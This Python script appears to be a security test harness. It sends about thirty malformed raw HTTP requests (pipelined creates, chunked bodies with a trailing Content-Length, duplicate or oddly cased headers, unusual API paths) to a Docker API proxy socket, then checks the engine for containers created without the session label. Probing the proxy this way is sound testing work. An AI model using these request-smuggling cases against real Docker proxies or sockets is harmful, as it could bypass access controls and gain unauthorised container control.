#!/usr/bin/env python3
"""attack5/111: raw HTTP edge cases against the session socket (argv[1]); each case's answers are
printed, then every container on the engine (argv[2], the engine's socket) with its session label.
A container named a5h-* without the label is a bypass."""
import json, socket, sys, time
SOCK, ENGINE = sys.argv[1], sys.argv[2]
BB = 'attack3-bb'

def body(name):
    return json.dumps({"Image": BB, "Cmd": ["true"]}).encode()

def raw(data, wait=1.5, sock=SOCK):
    s = socket.socket(socket.AF_UNIX); s.connect(sock); s.settimeout(wait)
    s.sendall(data)
    out = b''
    try:
        while True:
            c = s.recv(65536)
            if not c: break
            out += c
    except socket.timeout:
        pass
    s.close()
    return out

def create(name, extra=b'', version=b'HTTP/1.1', path=None, te=None, conn=b''):
    b = body(name)
    p = path or b'/v1.41/containers/create?name=' + name.encode()
    if te == 'chunked-ext':
        payload = hex(len(b))[2:].encode() + b';foo=bar\r\n' + b + b'\r\n0\r\nX-Trailer: 1\r\nContent-Length: 3\r\n\r\n'
        return b'POST ' + p + b' ' + version + b'\r\nHost: d\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\n' + extra + conn + b'\r\n' + payload
    return b'POST ' + p + b' ' + version + b'\r\nHost: d\r\nContent-Type: application/json\r\nContent-Length: ' + str(len(b)).encode() + b'\r\n' + extra + conn + b'\r\n' + b

def status_lines(out):
    return [l.decode('latin1') for l in out.split(b'\r\n') if l.startswith(b'HTTP/')]

cases = {
  'pipelined 3 creates in one write': create('a5h-p1') + create('a5h-p2') + create('a5h-p3'),
  'Connection: close then a create in the same write': create('a5h-cc1', conn=b'Connection: close\r\n') + create('a5h-cc2'),
  'HTTP/1.0 keep-alive then a create': create('a5h-10a', version=b'HTTP/1.0', conn=b'Connection: keep-alive\r\n') + create('a5h-10b', version=b'HTTP/1.0'),
  'chunked with extension and trailers (one a Content-Length)': create('a5h-ch', te='chunked-ext'),
  'header casing cOnTeNt-LeNgTh': create('a5h-case').replace(b'Content-Length', b'cOnTeNt-LeNgTh'),
  'duplicate Content-Type': create('a5h-dupct', extra=b'Content-Type: text/plain\r\n'),
  'duplicate Host': create('a5h-duphost', extra=b'Host: e\r\n'),
  'no Host (HTTP/1.1)': create('a5h-nohost').replace(b'Host: d\r\n', b''),
  '60 KB header': create('a5h-long', extra=b'X-Long: ' + b'a' * 60000 + b'\r\n'),
  '/v1.99/ prefix': create('a5h-v199', path=b'/v1.99/containers/create?name=a5h-v199'),
  '/v0/ prefix': create('a5h-v0', path=b'/v0/containers/create?name=a5h-v0'),
  '/v1.41.0/ prefix': create('a5h-v1410', path=b'/v1.41.0/containers/create?name=a5h-v1410'),
  '/v1..41/ prefix': create('a5h-vdots', path=b'/v1..41/containers/create?name=a5h-vdots'),
  'no version, ?name in a second ? ': create('a5h-q', path=b'/containers/create?name=a5h-q?x=1'),
  'fragment #': create('a5h-frag', path=b'/containers/create#x?name=a5h-frag'),
  'path ;params': create('a5h-semi', path=b'/containers/create;x=1?name=a5h-semi'),
  'TE: chunked, identity': create('a5h-te2', te='chunked-ext').replace(b'Transfer-Encoding: chunked', b'Transfer-Encoding: chunked, identity'),
  'TE: Chunked (casing)': create('a5h-te3', te='chunked-ext').replace(b'Transfer-Encoding: chunked', b'Transfer-Encoding: Chunked'),
  'two TE headers': create('a5h-te4', te='chunked-ext').replace(b'Transfer-Encoding: chunked\r\n', b'Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n'),
  'Content-Length 0 create then body as next request': create('a5h-cl0').replace(b'Content-Length: ' + str(len(body('a5h-cl0'))).encode(), b'Content-Length: 0'),
  'absolute-form target': create('a5h-abs', path=b'http://docker/v1.41/containers/create?name=a5h-abs'),
  'asterisk target OPTIONS then create': b'OPTIONS * HTTP/1.1\r\nHost: d\r\n\r\n' + create('a5h-opt'),
  'tab in header value': create('a5h-tab', extra=b'X-T: a\tb\r\n'),
  'NUL in header value': create('a5h-nul', extra=b'X-T: a\x00b\r\n'),
  'non-ASCII in header value': create('a5h-utf', extra='X-T: é\r\n'.encode()),
  'HTTP/1.2': create('a5h-12', version=b'HTTP/1.2'),
  'HTTP/2.0 line': create('a5h-20', version=b'HTTP/2.0'),
  'lowercase method post': create('a5h-lower').replace(b'POST ', b'post ', 1),
  'HEAD-prefixed pipelining (HEAD /_ping then create)': b'HEAD /_ping HTTP/1.1\r\nHost: d\r\n\r\n' + create('a5h-head'),
  'GET with a body then a create': b'GET /_ping HTTP/1.1\r\nHost: d\r\nContent-Length: 5\r\n\r\nABCDE' + create('a5h-getbody'),
}
for name, data in cases.items():
    out = raw(data)
    print(f'{name}: {status_lines(out)[:4]}')

time.sleep(1)
def engine_get(path):
    s = socket.socket(socket.AF_UNIX); s.connect(ENGINE)
    s.sendall(b'GET ' + path + b' HTTP/1.0\r\nHost: d\r\n\r\n')
    out = b''
    while True:
        c = s.recv(65536)
        if not c: break
        out += c
    return json.loads(out.split(b'\r\n\r\n', 1)[1])
for c in engine_get(b'/containers/json?all=1'):
    names = c['Names']
    if any(n.startswith('/a5h-') for n in names):
        print('container', names, 'session label:', (c.get('Labels') or {}).get('docker-janitor.session', 'NONE'))
